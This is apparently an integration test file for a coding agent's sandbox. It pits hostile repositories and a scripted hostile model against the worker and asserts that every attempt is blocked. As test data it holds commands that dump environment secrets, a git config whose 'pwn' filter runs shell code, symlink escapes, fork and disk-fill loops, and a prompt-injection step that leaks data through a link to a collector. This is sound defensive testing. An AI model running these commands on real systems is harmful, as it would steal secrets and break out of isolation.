import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import http from 'node:http';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { startGateway, type RunningGateway } from '../support/gateway';
import { backedBy, startGitHubDouble, type GitHubDouble } from '../support/github-double';
import { startGitServer, type GitServer } from '../support/git-server';
import { callApi } from '../support/http';
import { readEventStream } from '../support/sse';
import { labInternetAllow } from '../support/lab-internet';
import { startProcess, type Started, startWorkerProcess, isWorkerPolling } from '../support/process';
import { agentWorkerEnv } from '../support/worker-env';
import { startScriptedModel, type ChatRequest, type ScriptedModel, type ScriptedTurn, modelSettings } from '../support/scripted-model';

// Hostile repositories and a hostile model against a real worker process, real bubblewrap, real git over HTTP and
// real Temporal; only the model provider and the GitHub API are doubles. Nothing may land outside the clone, no
// command of the repository's choosing may run on the worker, and no secret may reach the sandbox.

const run = promisify(execFile);
const token = 'ghs_sandboxtesttoken0123456789';
// Not the default uid: the sandbox's own tests may run beside this file with that one.
const sandboxUid = 61001;
let git: GitServer;
let github: GitHubDouble;
let model: ScriptedModel;
let gw: RunningGateway;
let worker: Started;
let workspaceDir: string;
/** Outside every clone: where a hostile repository or model would like to write. */
let outside: string;
let workerHome: string;
const adminKeys: Record<string, string> = {};
let listener: net.Server;
let listenerConnections = 0;
/** Where an injected link would send a job's data: on 127.0.0.2, a network the operator lists in DOCENT_ALLOW_PRIVATE_NETWORKS. */
let collector: http.Server;
const collected: string[] = [];
/** A docs site the operator lets sandboxes reach (DOCENT_SANDBOX_EGRESS_ALLOW localhost:<port>). */
let site: http.Server;
const siteAsked: string[] = [];
const collectorUrl = (p: string) => `http://127.0.0.2:${(collector.address() as net.AddressInfo).port}${p}`;
const siteUrl = (p: string) => `http://localhost:${(site.address() as net.AddressInfo).port}${p}`;
/** The lab's relay to the internet, when its resolver answers with a documentation address (test/support/lab-internet.ts). */
let internet: string[] = [];

const lastUser = (req: ChatRequest) => JSON.stringify(req.messages.filter((m) => m.role === 'user').at(-1)?.content ?? '');
const firstUser = (req: ChatRequest) => JSON.stringify(req.messages.find((m) => m.role === 'user')?.content ?? '');
const toolReplies = (req: ChatRequest) => req.messages.filter((m) => m.role === 'tool').length;
const instructionOf = (req: ChatRequest) => /Instruction: ([^"\\]*)/.exec(firstUser(req))?.[1] ?? '';

/** Each instruction's tool calls, made in one step (or one a step, for `steps`); then a title and summary. */
function script(req: ChatRequest): ScriptedTurn {
  const instruction = instructionOf(req);
  const stepped = steps[instruction.split(' ')[0]!]?.();
  if (stepped) return toolReplies(req) < stepped.length ? { toolCalls: [stepped[toolReplies(req)]!] } : { text: `Done: ${instruction}\n\nWhat was asked.` };
  const calls = plans[instruction.split(' ')[0]!]?.();
  if (!calls || toolReplies(req) > 0) return { text: `Done: ${instruction}\n\nWhat was asked.` };
  return { toolCalls: calls };
}

const plans: Record<string, () => Array<{ name: string; args: unknown }>> = {
  'write-note': () => [
    { name: 'write_file', args: { path: 'ACCEPTANCE_NOTE.md', content: 'accepted\n' } },
    { name: 'write_file', args: { path: 'outdir/evil.txt', content: 'evil\n' } },
    { name: 'read_file', args: { path: 'ACCEPTANCE_NOTE.md' } },
  ],
  'plant-fsmonitor': () => [
    { name: 'write_file', args: { path: 'gitdir/config', content: `[core]\n\tfsmonitor = touch ${outside}/fsmonitor-ran\n` } },
    {
      name: 'run_command',
      args: { command: `printf '[core]\\n\\tfsmonitor = touch ${outside}/fsmonitor-ran-2\\n' >> .git/config; printf '[core]\\n\\thooksPath = hooks\\n' >> gitdir/config; echo done` },
    },
    { name: 'edit_file', args: { path: 'README.md', old: 'wrold', new: 'world' } },
  ],
  'read-big': () => [
    { name: 'read_file', args: { path: 'notes.txt' } },
    { name: 'edit_file', args: { path: 'notes.txt', old: 'x', new: 'y' } },
    { name: 'read_file', args: { path: 'zero' } },
  ],
  'use-submodule': () => [
    { name: 'edit_file', args: { path: 'README.md', old: 'wrold', new: 'world' } },
    { name: 'run_command', args: { command: 'git submodule update --init 2>&1; ls -A vendor/secret; cat vendor/secret/SECRET.txt 2>&1; echo listed' } },
  ],
  snoop: () => [
    { name: 'run_command', args: { command: "env; cat /proc/*/environ | tr '\\0' '\\n'; echo environ-done" } },
    { name: 'run_command', args: { command: `curl -sS -m 3 http://127.0.0.1:${(listener.address() as net.AddressInfo).port}/ 2>&1; echo curl-exit=$?` } },
    { name: 'run_command', args: { command: `touch /tmp/snoop-marker /root/snoop-marker ${outside}/snoop-marker 2>&1; ls -A /root ~ 2>&1; echo wrote` } },
    { name: 'run_command', args: { command: 'cat /proc/1/cmdline | tr "\\0" " "; ls /home; id' } },
  ],
  'fix-typo': () => [{ name: 'edit_file', args: { path: 'README.md', old: 'wrold', new: 'world' } }],
};

/** Instructions whose tool calls must run one after another: a page written, then its links checked. */
const steps: Record<string, () => Array<{ name: string; args: unknown }>> = {
  // A prompt injection's way out: a page whose link carries the job's data, then a link check to send it.
  'leak-links': () => [
    { name: 'write_file', args: { path: 'docs/leak.md', content: `# Leak\n\n[report](${collectorUrl('/collect?d=s3cr3t')}) and [old](./missing.md)\n` } },
    { name: 'check_links', args: { folder: 'docs' } },
  ],
  'site-links': () => [
    {
      name: 'write_file',
      args: {
        path: 'docs/links.md',
        content: `# Links\n\n[ok](${siteUrl('/ok')}), [gone](${siteUrl('/gone')}), [away](${siteUrl('/away')}) and [direct](${collectorUrl('/collect?d=direct')})\n`,
      },
    },
    { name: 'check_links', args: { folder: 'docs' } },
  ],
};

function workerEnv(): Record<string, string> {
  return {
    ...agentWorkerEnv({ gw, model, github, git, token, workspaceDir }),
    HOME: workerHome,
    DOCENT_EMBEDDINGS: 'off',
    DOCENT_SANDBOX_USER: `${sandboxUid}:${sandboxUid}`,
    // Room for `npm ci` from the registry through the egress proxy on a loaded machine.
    DOCENT_SANDBOX_TIMEOUT_MS: '5000',
    DOCENT_SANDBOX_MAX_PROCESSES: '64',
    DOCENT_SANDBOX_MAX_FILE_MB: '8',
    DOCENT_SANDBOX_MAX_DISK_MB: '48',
    DOCENT_SANDBOX_MEMORY_MB: '512',
    DOCENT_SANDBOX_EGRESS_ALLOW: [...internet, `localhost:${(site.address() as net.AddressInfo).port}`].join(','),
    // Outbound calls outside the sandbox (webhooks, crawls) may reach the collector's network: check_links must not.
    DOCENT_ALLOW_PRIVATE_NETWORKS: '127.0.0.2/32',
  };
}

async function hostileHome(): Promise<string> {
  // A machine-wide or user config that a careless git would obey: hooks, fsmonitor, filters, file:// submodules.
  const home = await mkdtemp(path.join(os.tmpdir(), 'docent-home-'));
  await writeFile(
    path.join(home, '.gitconfig'),
    [
      '[core]',
      `\tfsmonitor = touch ${outside}/global-fsmonitor-ran`,
      '[filter "pwn"]',
      `\tsmudge = sh -c 'touch ${outside}/filter-ran; cat'`,
      `\tclean = sh -c 'touch ${outside}/filter-ran; cat'`,
      '\trequired = true',
      '[protocol "file"]',
      '\tallow = always',
      '[submodule]',
      '\trecurse = true',
      '',
    ].join('\n'),
  );
  return home;
}

async function project(
  id: string,
  repo: string,
  checks?: { setup?: string[]; check?: string[]; network?: boolean; allowHosts?: string[]; cacheKeys?: string[]; maintenance?: string[] },
  repository = `acme/${repo}`,
): Promise<void> {
  await gw.deps.tenancy.createProject({ _id: id, orgId: 'acme', repository, ref: 'main' });
  if (checks) await gw.deps.tenancy.updateChecks(id, checks);
  adminKeys[id] = (await gw.deps.keys.create({ kind: 'admin', orgId: 'acme', projectId: id })).key;
}

async function runJob(projectId: string, prompt: string): Promise<any> {
  const r = await callApi(gw.url, adminKeys[projectId]!, 'POST', `/v2/agent/${projectId}/job`, { prompt });
  expect(r.status).toBe(201);
  const { id } = await r.json();
  const deadline = Date.now() + 100_000;
  for (;;) {
    const job = await (await callApi(gw.url, adminKeys[projectId]!, 'GET', `/v2/agent/${projectId}/job/${id}`)).json();
    if (job.status !== 'active') return job;
    if (Date.now() > deadline) throw new Error(`job ${id} still active: ${JSON.stringify(job)}\n${worker.output.slice(-20).join('\n')}`);
    await new Promise((r) => setTimeout(r, 200));
  }
}

/** Every tool result the model received for an instruction, as one string. */
const toolResultsFor = (instruction: string) =>
  model.requests
    .filter((q) => instructionOf(q).startsWith(instruction))
    .flatMap((q) => q.messages.filter((m) => m.role === 'tool').map((m) => JSON.stringify(m.content)))
    .join('\n');

/** Live (not yet reaped are fine) processes running as the sandbox's uid, read from /proc. */
async function liveSandboxProcesses(): Promise<string[]> {
  const owned: string[] = [];
  for (const pid of (await readdir('/proc')).filter((d) => /^\d+$/.test(d))) {
    const status = await readFile(`/proc/${pid}/status`, 'utf8').catch(() => '');
    if (new RegExp(`^Uid:\\s+${sandboxUid}\\s`, 'm').test(status) && !/^State:\s+Z/m.test(status)) owned.push(`${pid} ${status.split('\n')[0]}`);
  }
  return owned;
}

/** Waits briefly for killed processes to go, then says which are still there. */
async function sandboxProcesses(): Promise<string[]> {
  const deadline = Date.now() + 3000;
  for (;;) {
    const live = await liveSandboxProcesses();
    if (live.length === 0 || Date.now() > deadline) return live;
    await new Promise((r) => setTimeout(r, 100));
  }
}

beforeAll(async () => {
  internet = await labInternetAllow();
  outside = await mkdtemp(path.join(os.tmpdir(), 'docent-outside-'));
  workspaceDir = await mkdtemp(path.join(os.tmpdir(), 'docent-ws-'));
  workerHome = await hostileHome();
  listener = net.createServer((s) => {
    listenerConnections += 1;
    s.end('HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nhi');
  });
  await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
  collector = http.createServer((req, res) => {
    collected.push(req.url ?? '');
    res.end('ok');
  });
  await new Promise<void>((r) => collector.listen(0, '127.0.0.2', r));
  site = http.createServer((req, res) => {
    siteAsked.push(req.url ?? '');
    if (req.url === '/gone') res.writeHead(404).end();
    else if (req.url === '/away') res.writeHead(302, { location: collectorUrl('/collect?d=redirected') }).end();
    else res.end('ok');
  });
  await new Promise<void>((r) => site.listen(0, '127.0.0.1', r));
  git = await startGitServer(token);
  github = await startGitHubDouble({ token, ...backedBy(git) });
  model = await startScriptedModel(script);

  const readme = { 'README.md': '# Widgets\n\nHello wrold\n' };
  await git.createRepo('acme', 'symlink-out', readme, async (work) => {
    await run('ln', ['-s', path.join(outside, 'note'), path.join(work, 'ACCEPTANCE_NOTE.md')]);
    await run('ln', ['-s', outside, path.join(work, 'outdir')]);
  });
  await git.createRepo('acme', 'gitdir-link', readme, async (work) => run('ln', ['-s', '.git', path.join(work, 'gitdir')]).then(() => undefined));
  await git.createRepo('acme', 'big-link', { ...readme, 'huge.log': 'x'.repeat(2 * 1024 * 1024) }, async (work) => {
    await run('ln', ['-s', 'huge.log', path.join(work, 'notes.txt')]);
    await run('ln', ['-s', '/dev/zero', path.join(work, 'zero')]);
  });
  const secret = path.join(outside, 'secret');
  await run('git', ['init', '--quiet', secret]);
  await writeFile(path.join(secret, 'SECRET.txt'), 'classified\n');
  await run('git', ['-C', secret, 'add', '--all']);
  await run('git', ['-C', secret, '-c', 'user.name=x', '-c', 'user.email=x@x', 'commit', '--quiet', '-m', 'secret']);
  const secretCommit = (await run('git', ['-C', secret, 'rev-parse', 'HEAD'])).stdout.trim();
  await git.createRepo('acme', 'attributes', { ...readme, '.gitattributes': '* filter=pwn diff=pwn\n' }, async (work, g) => {
    await writeFile(path.join(work, '.gitmodules'), `[submodule "vendor/secret"]\n\tpath = vendor/secret\n\turl = file://${secret}\n`);
    await g('update-index', '--add', '--cacheinfo', `160000,${secretCommit},vendor/secret`);
  });
  await git.createRepo('acme', 'widgets', readme);
  await git.createRepo('acme', 'npm-widgets', {
    ...readme,
    'package.json': JSON.stringify({ name: 'npm-widgets', version: '1.0.0', dependencies: { 'is-number': '7.0.0' } }),
    'package-lock.json': JSON.stringify({
      name: 'npm-widgets',
      version: '1.0.0',
      lockfileVersion: 3,
      requires: true,
      packages: {
        '': { name: 'npm-widgets', version: '1.0.0', dependencies: { 'is-number': '7.0.0' } },
        'node_modules/is-number': {
          version: '7.0.0',
          resolved: 'https://registry.npmjs.org/is-number/-/is-number-7.0.0.tgz',
          integrity: 'sha512-41Cifkg6e8TylSpdtTpeLVMqvSBEVzTttHvERD741+pnZ8ANv0004MRL43QKPDlK9cGvNp6NZWZUBlbGXYxxng==',
          engines: { node: '>=0.12.0' },
        },
      },
    }),
  });

  gw = await startGateway({ ...modelSettings(model), DOCENT_GITHUB_GIT_URL: git.url });
  await gw.deps.tenancy.createOrg('acme');
  await project('symlink-out', 'symlink-out');
  await project('gitdir-link', 'gitdir-link');
  await project('big-link', 'big-link');
  await project('attributes', 'attributes');
  await project('snoop', 'widgets');
  await project('passing', 'widgets', { setup: ['test -f README.md && echo set up > "$HOME/setup-ran"'], check: ['test -f "$HOME/setup-ran"', 'grep -q world README.md'] });
  await project('failing', 'widgets', { check: ['echo "lint: 3 problems in src/index.js" >&2; exit 1'] });
  await project('limits', 'widgets', {
    check: [
      'sleep 600',
      'i=0; while [ $i -lt 10000 ]; do sleep 60 & i=$((i+1)); done; wait',
      'i=0; while :; do i=$((i+1)); head -c 4000000 /dev/zero > fill$i || exit 1; done',
      'head -c 64000000 /dev/zero > big.bin',
    ],
  });
  await project('egress', 'npm-widgets', {
    network: true,
    setup: ['npm ci --no-audit --no-fund'],
    check: [
      `curl -sS -m 5 --noproxy '' http://127.0.0.1:9200/_cat/indices; curl -sS -m 5 --noproxy '' http://127.0.0.1:${(listener.address() as net.AddressInfo).port}/; ` +
        `curl -sS -m 5 http://127.0.0.1:9200/_cat/indices; node -e "require('is-number')" && echo installed`,
    ],
  });
  await project('cached', 'npm-widgets', {
    network: true,
    allowHosts: ['registry.npmjs.org'],
    setup: ['npm ci --no-audit --no-fund'],
    check: [`node -e "require('is-number')" && echo installed`],
    cacheKeys: ['package-lock.json'],
    maintenance: ['test -d node_modules/is-number && echo maintained'],
  });
  await project('links-off', 'widgets');
  await project('links-on', 'widgets', { network: true, allowHosts: ['localhost'] });
  // Not the configured git host: a loopback address reached by another name.
  await project('elsewhere', 'widgets', undefined, `${git.url.replace('127.0.0.1', 'localhost')}/acme/widgets.git`);
  worker = await startWorkerProcess(workerEnv());
});

afterAll(async () => {
  await worker?.stop('SIGKILL');
  await gw?.stop();
  await Promise.all([git?.close(), github?.close(), model?.close(), new Promise((r) => listener?.close(r)), new Promise((r) => collector?.close(r)), new Promise((r) => site?.close(r))]);
  for (const dir of [workspaceDir, outside, workerHome]) if (dir) await rm(dir, { recursive: true, force: true });
});

describe('hostile repositories', () => {
  it('a symlink out of the clone: the note is not written outside, and the job ends with nothing to push', async () => {
    const job = await runJob('symlink-out', 'write-note into the acceptance note');
    expect(job).toMatchObject({ status: 'completed', prLink: null });
    expect(existsSync(path.join(outside, 'note'))).toBe(false);
    expect(existsSync(path.join(outside, 'evil.txt'))).toBe(false);
    expect(toolResultsFor('write-note')).toContain('leads outside the repository');
  });

  it('a symlink into .git: the planted fsmonitor never runs on the worker and only the edit is pushed', async () => {
    const job = await runJob('gitdir-link', 'plant-fsmonitor and fix the typo');
    expect(job.status).toBe('completed');
    expect(job.prLink).toBe(github.pulls.at(-1)!.html_url);
    expect(toolResultsFor('plant-fsmonitor')).toContain('.git folder is off limits');
    expect(toolResultsFor('plant-fsmonitor')).toMatch(/cannot create \.git\/config: (Read-only file system|Permission denied)/);
    expect(await readdir(outside)).not.toEqual(expect.arrayContaining([expect.stringMatching(/fsmonitor/)]));
    const changed = (await git.git('acme', 'gitdir-link', 'diff', '--name-only', 'main', `docent/${job.id}`)).trim();
    expect(changed).toBe('README.md');
  });

  it('a symlink to a large file: the size cap holds for reading and editing, and /dev/zero is refused', async () => {
    const job = await runJob('big-link', 'read-big files');
    expect(job).toMatchObject({ status: 'completed', prLink: null });
    const results = toolResultsFor('read-big');
    expect(results.match(/file is larger than/g)).toHaveLength(2);
    expect(results).toContain('leads outside the repository');
  });

  it('.gitattributes filters and a file:// submodule: no filter runs, the submodule is never fetched', async () => {
    const job = await runJob('attributes', 'use-submodule and fix the typo');
    expect(job.status).toBe('completed');
    expect(existsSync(path.join(outside, 'filter-ran'))).toBe(false);
    expect(existsSync(path.join(outside, 'global-fsmonitor-ran'))).toBe(false);
    expect(toolResultsFor('use-submodule')).toContain('listed');
    expect(toolResultsFor('use-submodule')).not.toContain('classified');
    expect((await git.git('acme', 'attributes', 'diff', '--name-only', 'main', `docent/${job.id}`)).trim()).toBe('README.md');
  });

  it('a repository on another host that resolves to loopback is refused before any request', async () => {
    const before = git.authHeaders.length;
    const job = await runJob('elsewhere', 'fix-typo please');
    expect(job.status).toBe('failed');
    expect(job.error).toEqual({ code: 'repository_url_refused', message: expect.stringMatching(/loopback address.*DOCENT_ALLOW_PRIVATE_NETWORKS/) });
    expect(git.authHeaders.length).toBe(before);
  });
});

describe('a hostile model', () => {
  it('sees no secret, reaches no network, and writes nothing outside the clone', async () => {
    const job = await runJob('snoop', 'snoop around');
    expect(job).toMatchObject({ status: 'completed', prLink: null });
    const seen = toolResultsFor('snoop');
    expect(seen).toContain('environ-done');
    for (const secret of [token, model.apiKey, 'DOCENT_', 'mongodb://', workerHome, gw.deps.config.mongo.db]) expect(seen).not.toContain(secret);
    expect(seen).toMatch(/curl-exit=[1-9]/);
    expect(listenerConnections).toBe(0);
    expect(seen).toContain('wrote');
    for (const marker of ['/tmp/snoop-marker', '/root/snoop-marker', path.join(outside, 'snoop-marker')]) expect(existsSync(marker)).toBe(false);
  });
});

describe('network on', () => {
  it('the worker said at start-up whether sandboxed commands get cgroup v2 limits, and why not', () => {
    const line = worker.output.find((l) => l.startsWith('{') && l.includes('cgroup'));
    const said = line === undefined ? undefined : (JSON.parse(line) as { msg?: string });
    // This machine mounts cgroup v1 for memory, cpu and pids; a delegated cgroup v2 host logs where the commands run.
    expect(said?.msg).toMatch(/^(sandboxed commands run in cgroup v2 children of \S+|.*: sandboxed commands run with per-process rlimits only .* Fix: .*)/);
  });

  it('npm ci in a setup step reaches the registry through the egress proxy; local services stay out of reach; each connection is an event', async () => {
    const before = listenerConnections;
    const job = await runJob('egress', 'fix-typo with dependencies installed');
    expect(job).toMatchObject({ status: 'completed', checksPassed: true });
    const [setup, check] = job.checks;
    expect(setup).toMatchObject({ kind: 'setup', command: 'npm ci --no-audit --no-fund', exitCode: 0 });
    expect(check.output).toContain('docent egress proxy: 127.0.0.1:9200 refused: a loopback address (127.0.0.1) is not public');
    expect(check.output).toContain('Failed to connect to 127.0.0.1 port 9200');
    expect(check.output).toContain('installed');
    expect(check.output).not.toContain('health');
    expect(listenerConnections).toBe(before);
    const { events } = await readEventStream(`${gw.url}/v2/agent/egress/job/${job.id}/events`, adminKeys.egress!);
    const egress = events.filter((e) => e.type === 'egress').map((e) => e.data);
    expect(egress).toContainEqual(expect.objectContaining({ host: 'registry.npmjs.org', port: 443, method: 'CONNECT', allowed: true, bytesIn: expect.any(Number) }));
    expect(egress.find((e) => e.host === 'registry.npmjs.org').bytesIn).toBeGreaterThan(1000);
    expect(egress).toContainEqual(expect.objectContaining({ host: '127.0.0.1', port: 9200, method: 'GET', allowed: false, reason: expect.stringContaining('loopback') }));
    expect(egress.filter((e) => e.allowed === false).map((e) => e.port)).toEqual([9200, (listener.address() as net.AddressInfo).port]);
  });
});

describe("check_links is one of the turn's network clients", () => {
  it('with network off, a link written to carry data out is never asked, and the tool says the outside links are unchecked', async () => {
    const job = await runJob('links-off', 'leak-links through a page');
    expect(job.status).toBe('completed');
    expect(collected).toEqual([]);
    const seen = toolResultsFor('leak-links');
    expect(seen).toContain('unchecked');
    expect(seen).toContain(collectorUrl('/collect?d=s3cr3t'));
    expect(seen).toContain("the project's network is off");
    // The links inside the clone are still checked.
    expect(seen).toContain('no file docs/missing.md');
    const { events } = await readEventStream(`${gw.url}/v2/agent/links-off/job/${job.id}/events`, adminKeys['links-off']!);
    expect(events.filter((e) => e.type === 'egress')).toEqual([]);
  });

  it('with network on, it asks the allowed host through the egress proxy, each connection an egress event, and follows no redirect elsewhere', async () => {
    const job = await runJob('links-on', 'site-links in the docs');
    expect(job.status).toBe('completed');
    expect(siteAsked.sort()).toEqual(['/away', '/gone', '/ok']);
    expect(collected).toEqual([]);
    const seen = toolResultsFor('site-links');
    expect(seen).toContain('answers 404');
    expect(seen).toContain("127.0.0.2 is not in the project's allowed hosts");
    const { events } = await readEventStream(`${gw.url}/v2/agent/links-on/job/${job.id}/events`, adminKeys['links-on']!);
    const egress = events.filter((e) => e.type === 'egress').map((e) => e.data);
    const sitePort = (site.address() as net.AddressInfo).port;
    expect(egress.filter((e) => e.host === 'localhost').map((e) => [e.port, e.method, e.allowed])).toEqual([
      [sitePort, 'CONNECT', true],
      [sitePort, 'CONNECT', true],
      [sitePort, 'CONNECT', true],
    ]);
    // The direct link and the redirect's target, both refused by the proxy before any byte reached the collector.
    expect(egress.filter((e) => e.host === '127.0.0.2').map((e) => e.allowed)).toEqual([false, false]);
  });
});

describe('cached setup', () => {
  it("a second job restores the first one's setup from the worker's cache, runs the maintenance commands and says so", async () => {
    const first = await runJob('cached', 'fix-typo before the cache');
    expect(first).toMatchObject({ status: 'completed', checksPassed: true });
    expect(first.checks[0]).toMatchObject({ kind: 'setup', command: 'npm ci --no-audit --no-fund', exitCode: 0, cache: 'miss' });
    const second = await runJob('cached', 'fix-typo from the cache');
    expect(second).toMatchObject({ status: 'completed', checksPassed: true });
    const [restored, maintained, check] = second.checks;
    expect(restored).toMatchObject({ kind: 'setup', command: 'restore the cached result of: npm ci --no-audit --no-fund', exitCode: 0, cache: 'hit' });
    expect(maintained).toMatchObject({ kind: 'setup', command: 'test -d node_modules/is-number && echo maintained', exitCode: 0, cache: 'hit' });
    expect(maintained.output).toContain('maintained');
    // The check needs what npm ci installed: the restore put it back without reaching the registry.
    expect(check.output).toContain('installed');
    const { events } = await readEventStream(`${gw.url}/v2/agent/cached/job/${second.id}/events`, adminKeys.cached!);
    expect(events.filter((e) => e.type === 'egress')).toEqual([]);
    expect(events.filter((e) => e.type === 'check').map((e) => e.data.cache)).toEqual(['hit', 'hit', undefined]);
    expect((await readdir(path.join(workspaceDir, '.setup-cache'))).filter((n) => /^[0-9a-f]{64}$/.test(n))).toHaveLength(1);
  });

  it('with a second worker polling too, the next jobs still go to the worker holding the setup and hit', async () => {
    const otherDir = await mkdtemp(path.join(os.tmpdir(), 'docent-ws-other-'));
    const other = startProcess('src/worker.js', { ...workerEnv(), DOCENT_WORKSPACE_DIR: otherDir });
    try {
      await other.waitForLog(isWorkerPolling);
      // Without the preference each job lands on either worker; five hits in a row by chance is 1 in 32.
      const jobs = [];
      for (let i = 1; i <= 5; i++) jobs.push(await runJob('cached', `fix-typo with two workers ${i}`));
      expect(jobs.map((j) => [j.status, j.checks[0].cache])).toEqual(jobs.map(() => ['completed', 'hit']));
      expect(await readdir(otherDir)).not.toContain('.setup-cache');
    } finally {
      await other.stop('SIGKILL');
      await rm(otherDir, { recursive: true, force: true });
    }
  });
});

describe('project checks', () => {
  it('a check that passes: checksPassed true, the pull request is ready and lists the checks', async () => {
    const job = await runJob('passing', 'fix-typo in the README');
    expect(job).toMatchObject({ status: 'completed', checksPassed: true });
    expect(job.checks.map((c: { kind: string; command: string; exitCode: number }) => [c.kind, c.command, c.exitCode])).toEqual([
      ['setup', 'test -f README.md && echo set up > "$HOME/setup-ran"', 0],
      ['check', 'test -f "$HOME/setup-ran"', 0],
      ['check', 'grep -q world README.md', 0],
    ]);
    const pr = github.pulls.find((p) => p.html_url === job.prLink)!;
    expect(pr.draft).toBe(false);
    expect(pr.body).toContain('Checks: all 3 passed');
    expect(pr.body).toContain('`grep -q world README.md`');
  });

  it('a check that always fails: the agent gets its output for two repair rounds, then a draft pull request says which failed', async () => {
    const job = await runJob('failing', 'fix-typo and satisfy the linter');
    expect(job).toMatchObject({ status: 'completed', checksPassed: false });
    expect(job.checks).toEqual([expect.objectContaining({ kind: 'check', exitCode: 1, output: expect.stringContaining('lint: 3 problems in src/index.js') })]);
    const repairs = model.requests.filter((q) => instructionOf(q).startsWith('fix-typo and satisfy') && lastUser(q).includes('checks failed'));
    expect(repairs).toHaveLength(2);
    expect(lastUser(repairs[0]!)).toContain('lint: 3 problems');
    const pr = github.pulls.find((p) => p.html_url === job.prLink)!;
    expect(pr.draft).toBe(true);
    expect(pr.body).toMatch(/1 of 1 failed/);
    expect(pr.body).toContain('lint: 3 problems');
    expect(await git.git('acme', 'widgets', 'show', `docent/${job.id}:README.md`)).toContain('Hello world');
    // With a token (no App), GitHub shows the checks as the commit status `docent` on the pushed head.
    const head = (await git.git('acme', 'widgets', 'rev-parse', `docent/${job.id}`)).trim();
    expect(github.statuses.filter((st) => st.sha === head)).toEqual([{ sha: head, state: 'failure', context: 'docent', description: '1 of 1 checks failed' }]);
  });

  it('checks that hang, fork without end or fill the disk are stopped by the limits; the worker lives on', async () => {
    const job = await runJob('limits', 'fix-typo under limits');
    expect(job).toMatchObject({ status: 'completed', checksPassed: false });
    const [hang, forks, fill, big] = job.checks;
    expect(hang).toMatchObject({ exitCode: 124, stoppedBy: 'timeout' });
    expect(hang.durationMs).toBeLessThan(10_000);
    expect(forks.exitCode).not.toBe(0);
    expect(fill).toMatchObject({ stoppedBy: 'disk' });
    expect(big.exitCode).not.toBe(0);
    // What the checks wrote never reaches the pull request, and nothing of theirs is left running.
    expect((await git.git('acme', 'widgets', 'diff', '--name-only', 'main', `docent/${job.id}`)).trim()).toBe('README.md');
    expect(await sandboxProcesses()).toEqual([]);
    const after = await runJob('passing', 'fix-typo once more');
    expect(after).toMatchObject({ status: 'completed', checksPassed: true });
    expect(github.rejected).toEqual([]);
    expect(model.rejected).toEqual([]);
  });
});

// Whatever a test's commands started, nothing of the sandbox's user is left running afterwards.
afterEach(async () => {
  if (worker) expect(await sandboxProcesses()).toEqual([]);
});
